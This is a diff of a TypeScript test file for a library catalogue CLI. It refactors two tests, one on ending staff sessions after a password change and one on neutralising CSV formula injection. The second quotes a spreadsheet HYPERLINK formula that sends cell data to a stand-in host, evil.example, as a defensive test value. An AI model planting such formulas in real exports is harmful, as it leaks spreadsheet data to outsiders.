@@ -185,7 +185,8 @@ describe('webpac CLI (SPEC 6)', () => {
 
     test('staff add USER with a new password ends every open session of that account, and only of that account', async () => {
       assert.equal((await cli(['staff', 'add', 'branch.desk'], { input: 'branch-password-1\n' })).code, 0)
-      const [laptop, phone] = [await staffSession('branch.desk', 'branch-password-1'), await staffSession('branch.desk', 'branch-password-1')]
+      const laptop = await staffSession('branch.desk', 'branch-password-1')
+      const phone = await staffSession('branch.desk', 'branch-password-1')
       const colleague = await staffSession('day.desk', 'day-password-12')
 
       const run = await cli(['staff', 'add', 'branch.desk'], { input: 'branch-password-2\n' })
@@ -454,7 +455,8 @@ describe('webpac CLI (SPEC 6)', () => {
       assert.equal(run.code, 0, run.stderr)
       assert.match(run.stdout, /,"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&B2,""Click""\)",/)
       const rows = parseCsv(run.stdout, { columns: true }) as Record<string, string>[]
-      assert.deepEqual(rows.map((row) => row.user_agent), attacks.map((attack) => `'${attack}`), 'each value stays readable after the quote')
+      const readable = attacks.map((attack) => `'${attack}`)
+      assert.deepEqual(rows.map((row) => row.user_agent), readable, 'each value stays readable after the quote')
       assert.deepEqual(rows.map((row) => row.barcode), attacks.map((_, index) => `'=${index}`))
       assert.deepEqual(new Set(rows.map((row) => row.actor)), new Set(["'@staff"]))
       for (const row of rows) {
